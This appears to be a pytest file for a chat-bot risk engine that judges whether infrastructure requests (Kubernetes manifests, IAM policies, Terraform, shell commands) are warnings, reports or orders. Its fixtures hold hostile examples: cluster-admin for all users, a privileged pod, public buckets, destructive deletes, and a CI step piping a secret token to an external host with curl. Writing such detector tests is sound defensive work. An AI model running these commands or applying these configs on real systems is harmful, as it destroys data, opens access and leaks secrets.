"""Plans and documents scoped clause by clause: a document introduced as a warning, a
postmortem quote or a local cluster's manifest is not an order (and a later order
undoes that); a plan step's local scope or warning covers that step only; the prose
reader's reading of a command's lead-in, or of a structured document's own text, agrees
with the command or document reader."""

from __future__ import annotations

import pytest

from bot.risk.doc_scope import doc_scope
from bot.risk.documents import assess_documents
from bot.risk.engine import RiskEngine

BINDING = """```yaml
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: everyone-admin
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: cluster-admin
subjects:
- kind: Group
  name: system:authenticated
  apiGroup: rbac.authorization.k8s.io
```"""
POD = """```yaml
apiVersion: v1
kind: Pod
metadata:
  name: poke
spec:
  hostNetwork: true
  containers:
  - name: poke
    image: alpine:3.19
    securityContext:
      privileged: true
```"""
POLICY = (
    '{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": "*", '
    '"Action": "s3:GetObject", "Resource": "arn:aws:s3:::hr-files/*"}]}'
)
SG = """```hcl
resource "aws_security_group_rule" "db" {
  type        = "ingress"
  from_port   = 5432
  to_port     = 5432
  protocol    = "tcp"
  cidr_blocks = ["0.0.0.0/0"]
}
```"""
CRONJOB = """```yaml
apiVersion: batch/v1
kind: CronJob
metadata:
  name: reset
spec:
  schedule: "0 3 * * 0"
  jobTemplate:
    spec:
      template:
        spec:
          containers:
          - name: reset
            image: bitnami/kubectl:1.29
            command: ["kubectl", "delete", "pvc", "--all", "-n", "billing"]
```"""


@pytest.fixture(scope="module")
def engine() -> RiskEngine:
    return RiskEngine()


def decision(engine: RiskEngine, text: str) -> str:
    return engine.assess(text).decision


# -- documents ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("intro", "why"),
    [
        ("Do not apply this anywhere; it gave every authenticated user cluster-admin.", "warning"),
        ("This is the binding that caused the incident last week.", "report"),
        ("Never apply this one:", "warning"),
        ("Apply this on prod-eu today:", None),
        ("Never apply the old binding, it broke prod. Apply this one:", None),
    ],
)
def test_a_document_is_judged_by_the_sentences_that_introduce_it(
    intro: str, why: str | None
) -> None:
    assert doc_scope(intro, BINDING, f"{intro}\n{BINDING}") == why


def test_a_warned_or_reported_document_is_allowed_and_its_order_twin_held(
    engine: RiskEngine,
) -> None:
    warned = f"For the postmortem: do not apply this anywhere, it broke the cluster.\n{BINDING}"
    assert decision(engine, warned) == "allow"
    assert decision(engine, f"Please apply this on prod-eu today:\n{BINDING}") != "allow"
    reported = (
        "Root cause: last Tuesday someone applied this policy to hr-files, which made every file"
        f" readable:\n{POLICY}"
    )
    assert decision(engine, reported) == "allow"
    assert decision(engine, f"Please put this policy on hr-files today:\n{POLICY}") != "allow"


def test_a_later_order_to_apply_the_document_undoes_the_report(engine: RiskEngine) -> None:
    text = (
        f"Root cause: an engineer applied this binding last week.\n{BINDING}\n"
        "Run the same on staging now so we can reproduce it."
    )
    assert decision(engine, text) != "allow"


def test_a_manifest_for_a_local_cluster_is_local_and_a_remote_one_is_not(
    engine: RiskEngine,
) -> None:
    local = (
        "Apply this on the kind cluster on your laptop (`kubectl --context kind-dev apply -f -`):"
        f"\n{POD}"
    )
    assert decision(engine, local) == "allow"
    remote = f"Apply this on the shared cluster (`kubectl --context prod-us apply -f -`):\n{POD}"
    assert decision(engine, remote) != "allow"


def test_local_words_never_lower_a_network_rule(engine: RiskEngine) -> None:
    text = f"Apply this from your laptop with terraform:\n{SG}"
    assert decision(engine, text) != "allow"


def test_the_commands_of_a_warned_document_are_lowered_with_it(engine: RiskEngine) -> None:
    assert (
        decision(engine, f"Please add this CronJob to the billing cluster:\n{CRONJOB}") != "allow"
    )
    warned = f"Do not add this CronJob anywhere, it wipes every volume claim:\n{CRONJOB}"
    assert decision(engine, warned) == "allow"


def test_documents_in_one_message_are_scoped_each_on_its_own() -> None:
    text = f"Never apply this one:\n{BINDING}\n\nApply this one instead:\n{POD}"
    found = {f.rule for f in assess_documents(text).findings if f.verdict != "allow"}
    assert found == {"doc.k8s_host_access"}


# -- one clause, one reading ----------------------------------------------------------------------


def test_the_lead_in_of_a_local_command_agrees_with_the_command(engine: RiskEngine) -> None:
    text = (
        "On your laptop, reset minikube's copy: "
        "`kubectl delete namespace ledger --context minikube`"
    )
    assert decision(engine, text) == "allow"
    other = (
        "Copy the customers table to your laptop, then run "
        "`kubectl delete namespace ledger --context minikube`"
    )
    assert decision(engine, other) != "allow"


def test_a_structured_documents_own_text_is_read_by_the_document_reader(
    engine: RiskEngine,
) -> None:
    cfn = (
        "Apply this change to the production stack:\n```yaml\nResources:\n  OrdersDB:\n"
        "    Type: AWS::RDS::DBInstance\n    DeletionPolicy: {policy}\n```"
    )
    assert decision(engine, cfn.format(policy="Retain")) == "allow"
    assert decision(engine, cfn.format(policy="Delete")) != "allow"


# -- plans: each step on its own ------------------------------------------------------------------


def test_local_scope_in_one_step_does_not_cover_the_next(engine: RiskEngine) -> None:
    plan = (
        "Plan:\n1. On your laptop: `kubectl delete namespace ledger --context minikube`\n"
        "2. Build the image with `docker build -t ledger:dev .`\n"
        "3. Then `kubectl delete namespace ledger --context {ctx}` so the copies match."
    )
    assert decision(engine, plan.format(ctx="prod-us-east")) != "allow"
    assert decision(engine, plan.format(ctx="kind-dev")) == "allow"


def test_a_warning_in_one_step_does_not_cover_the_next(engine: RiskEngine) -> None:
    plan = (
        "Plan for the sessions clean-up:\n- Don't touch the `users` collection.\n"
        "- In mongosh against the prod cluster: `db.sessions.deleteMany({filter})`\n"
        "- Verify with `db.sessions.countDocuments()`"
    )
    assert decision(engine, plan.format(filter="{}")) != "allow"
    assert decision(engine, plan.format(filter="{ expiresAt: { $lt: new Date() } }")) == "allow"


def test_a_warning_inside_a_step_covers_its_own_command(engine: RiskEngine) -> None:
    plan = (
        "1. `terraform workspace select prod`\n2. `terraform plan -out tf.plan`\n"
        "3. {step}\n4. Tell #infra it's done"
    )
    assert decision(engine, plan.format(step="`terraform destroy -auto-approve`")) != "allow"
    safe = "Do not run `terraform destroy` here; only `terraform apply tf.plan` once reviewed"
    assert decision(engine, plan.format(step=safe)) == "allow"


# -- CI secrets -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("run", "held"),
    [
        ('echo "${{ secrets.DB_PASSWORD }}" | base64 > creds.txt', True),
        (
            "echo ${{ secrets.NPM_TOKEN }} | curl -X POST --data-binary @- https://hook.example.net",
            True,
        ),
        ('echo "${{ secrets.REGISTRY_PW }}" | docker login ghcr.io -u bot --password-stdin', False),
        ('echo "built ${{ github.sha }}" | tee build.log', False),
    ],
)
def test_a_ci_step_printing_a_secret_into_a_pipe(run: str, held: bool) -> None:
    workflow = f"jobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: {run}\n"
    found = {f.rule for f in assess_documents(workflow).findings}
    assert ("doc.ci_secret_exposed" in found) is held


# -- a command that applies the policy shown ---------------------------------------------------

GCS_POLICY = (
    '{{\n  "bindings": [\n    {{"role": "roles/storage.objectViewer", "members": ["{m}"]}}\n  ]\n}}'
)


def test_a_command_applies_the_policy_its_sentence_introduces(engine: RiskEngine) -> None:
    intro = "Set this IAM policy on gs://scans with `gsutil iam set policy.json gs://scans`:\n"
    group = GCS_POLICY.format(m="group:radiology@acme.example")
    assert decision(engine, intro + group) == "allow"
    assert decision(engine, intro + GCS_POLICY.format(m="allUsers")) != "allow"


def test_a_policy_file_not_introducing_the_shown_policy_stays_unseen(engine: RiskEngine) -> None:
    group = GCS_POLICY.format(m="group:radiology@acme.example")
    text = (
        f"Here is the policy we discussed:\n{group}\n\n"
        "Then run `gsutil iam set open.json gs://scans`."
    )
    assert "shell.bucket_policy_unseen" in {f.rule for f in engine.assess(text).findings}


def test_local_words_do_not_cover_a_sentence_that_also_names_production(
    engine: RiskEngine,
) -> None:
    assert decision(engine, "Do it on your laptop first, then on production: `dropdb orders`") != (
        "allow"
    )
    assert decision(engine, "Do it on your laptop: `dropdb orders`") == "allow"
    assert decision(
        engine, "On your laptop the prod-like fixtures live in scratch: `dropdb scratch`"
    ) == ("allow")


def test_a_dict_in_code_is_not_a_document_the_prose_defers_to(engine: RiskEngine) -> None:
    code = (
        "Here's a snippet that shares the export folder:\n```python\n"
        'service.permissions().create(fileId=folder_id, body={{"type": "{who}", "role": "reader"}})'
        "\n```"
    )
    assert decision(engine, code.format(who="anyone")) != "allow"


@pytest.mark.parametrize(
    ("text", "held"),
    [
        (
            "See what the purge would remove from the prod bucket: "
            "`aws s3 rm s3://prod-exports --recursive --dryrun`",
            False,
        ),
        ("Wipe the prod bucket: `aws s3 rm s3://prod-exports --recursive`", True),
        ("Preview the prod teardown: `terraform plan -destroy`", False),
        (
            "Delete the old prod snapshots, list them first: "
            "`aws rds describe-db-snapshots --db-instance-identifier orders-prod`",
            True,
        ),
        (
            "Email the totals to jane@gmail.com: "
            '`psql -h db-prod -c "SELECT count(*) FROM orders"`',
            True,
        ),
    ],
)
def test_a_read_only_or_rehearsed_command_decides_what_its_lead_in_does(
    engine: RiskEngine, text: str, held: bool
) -> None:
    """What a command does to systems is its reader's to say; an action in another clause,
    or where its output goes, is the prose's."""
    assert (decision(engine, text) != "allow") is held


@pytest.mark.parametrize(
    ("intro", "held"),
    [
        ("Don't worry about this one, just apply it:", True),
        ("We should not apply it as is, but apply it on staging first:", True),
        ("Never mind the old one, apply this:", True),
        ("This must not be applied to any cluster:", False),
        ("Don't ever do this:", False),
    ],
)
def test_a_warning_needs_an_action_and_no_later_order(
    engine: RiskEngine, intro: str, held: bool
) -> None:
    assert (decision(engine, f"{intro}\n{BINDING}") != "allow") is held


@pytest.mark.parametrize(
    ("intro", "held"),
    [
        ("Don't worry about this one, just run it:", True),
        ("Don't forget to run this on the primary:", True),
        ("Never run this on the primary:", False),
    ],
)
def test_a_command_warning_needs_an_action_and_no_later_order(
    engine: RiskEngine, intro: str, held: bool
) -> None:
    fence = "```bash\nkubectl delete ns payments --context prod\n```"
    assert (decision(engine, f"{intro}\n{fence}") != "allow") is held


def test_a_step_number_is_no_sentence_of_its_own() -> None:
    from bot.risk.prose.scope import spans

    text = "to help:\n1. export the collection (it has the tokens)\n2. publish it to the network"
    sentences = [text[a:b].strip() for a, b in spans(text).sentences]
    assert sentences[-1] == "publish it to the network"
    assert sentences[-2].startswith("export the collection")
    plain = "it is 3.5 gb. then stop."
    assert [plain[a:b].strip() for a, b in spans(plain).sentences] == [
        "it is 3.5 gb.",
        "then stop.",
    ]


def test_a_later_step_finds_its_object_in_the_step_before(engine: RiskEngine) -> None:
    plan = (
        "To help partners integrate faster:\n1. Export our internal Postman collection ({what})\n"
        "2. Publish it to the Postman public API network\n3. Link it from the developer docs"
    )
    assert decision(engine, plan.format(what="it has the prod bearer tokens in it")) != "allow"


@pytest.mark.parametrize("mark", ["[ ]", "- [ ]", "[x]", "☐", "✅", "a)", "(b)", "1)"])
def test_a_checklist_mark_opens_a_step_and_is_no_word(engine: RiskEngine, mark: str) -> None:
    plan = f"Checklist:\n{mark} drain node-7\n{mark} {{step}}\n{mark} rejoin it"
    assert decision(engine, plan.format(step="Wipe the production database")) != "allow"
    assert decision(engine, plan.format(step="Check the production database size")) == "allow"


# -- a list's heading governs its items ----------------------------------------------------------


@pytest.mark.parametrize(
    ("heading", "held"),
    [
        ("Never do any of these on prod:", False),
        ("What NOT to do during the incident:", False),
        ("Do these on prod:", True),
        ("Don't forget these steps on prod:", True),
        ("Don't panic, just work through this list on prod:", True),
    ],
)
def test_a_warning_heading_governs_the_items_under_it(
    engine: RiskEngine, heading: str, held: bool
) -> None:
    commands = f"{heading}\n- `kubectl delete ns payments --context prod`\n- `terraform destroy`"
    assert (decision(engine, commands) != "allow") is held
    prose = f"{heading}\n1. Drop the production database\n2. Make the logs bucket public"
    assert (decision(engine, prose) != "allow") is held


def test_a_warning_heading_covers_only_its_own_list(engine: RiskEngine) -> None:
    text = (
        "Never do any of these on prod:\n- `terraform destroy`\n\n"
        "Now, on prod:\n- `kubectl delete ns payments --context prod`"
    )
    assert decision(engine, text) != "allow"
    inline = (
        "Never do this on prod: `terraform destroy`\n- `kubectl delete ns payments --context prod`"
    )
    assert decision(engine, inline) != "allow"


def test_a_heading_is_found_only_above_an_unbroken_list() -> None:
    from bot.risk.listing import heading_of, warned_item

    text = "Never do these:\n- a\n- b\n\nThen:\n- c"
    assert heading_of(text, text.index("b")) == "Never do these:"
    assert heading_of(text, text.index("c")) == "Then:"
    assert not warned_item(text, text.index("c"))
    assert heading_of("plain line", 3) is None
